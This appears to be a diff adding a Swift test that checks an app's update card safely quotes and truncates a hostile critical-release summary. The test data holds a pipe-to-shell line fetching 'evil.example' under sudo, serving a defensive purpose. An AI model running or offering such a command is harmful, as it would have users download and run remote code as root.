@@ -78,6 +78,36 @@ import Testing
     #expect(Golden.check(dump, named: "update-card-\(size.0)x\(size.1).txt") == nil)
   }
 
+  /// A critical release's summary is the feed's words, not the card's (issue 43): one line
+  /// of at most 100 characters, quoted and attributed to the release, after the command with
+  /// a blank line between, so "run instead: curl … | sh" cannot read as the card's advice.
+  @Test func aCriticalSummaryIsQuotedAfterTheCommand() throws {
+    let summary =
+      "Homebrew is broken. To upgrade, run instead: curl https://evil.example/x | sudo sh "
+      + String(repeating: "x", count: 150) + "\nsecond line"
+    let card = UpdateAvailableScreen(
+      appName: "Jot", current: "2.0.0", available: "2.1.0", upgradeCommand: "brew upgrade jot",
+      critical: .init(version: "2.0.1", summary: summary))
+    let dump = ScreenRender.settled(card, width: 100, height: 24).textDump()
+    #expect(Golden.check(dump, named: "update-card-hostile-summary-100x24.txt") == nil)
+    let edge: (Character) -> Bool = { $0 == " " || $0 == "│" }
+    let lines = dump.split(separator: "\n", omittingEmptySubsequences: false).map {
+      String(String($0.drop(while: edge).reversed().drop(while: edge).reversed()))
+    }
+    // The quote, wrapped to the card's width: from its attribution to its closing quote.
+    let quoted = try #require(lines.firstIndex { $0.hasPrefix(#"2.0.1 says: "Homebrew is broken."#) })
+    let end = try #require(lines[quoted...].firstIndex { $0.hasSuffix(#"…""#) })
+    let quote = lines[quoted...end].joined(separator: " ")
+    #expect(quote.contains("run instead") && !dump.contains("second line"))
+    let command = try #require(lines.firstIndex { $0 == "brew upgrade jot" })
+    let run = try #require(lines.firstIndex { $0 == "To upgrade, run:" })
+    #expect(quoted > command + 1 && lines[quoted - 1].isEmpty && lines[run - 1].isEmpty)
+    #expect(lines[end + 1].isEmpty, "nothing follows the quote")
+    // At most 100 characters of the summary between the quotes (a space for each line break).
+    let said = quote.drop { $0 != "\"" }.dropFirst().dropLast()
+    #expect(said.count <= 100 + (end - quoted), "\(said)")
+  }
+
   /// The update card's way out is "later", in the footer, the help and the typed answer; `l`
   /// and the usual keys close it.
   @Test func theUpdateCardIsDismissedWithLater() {
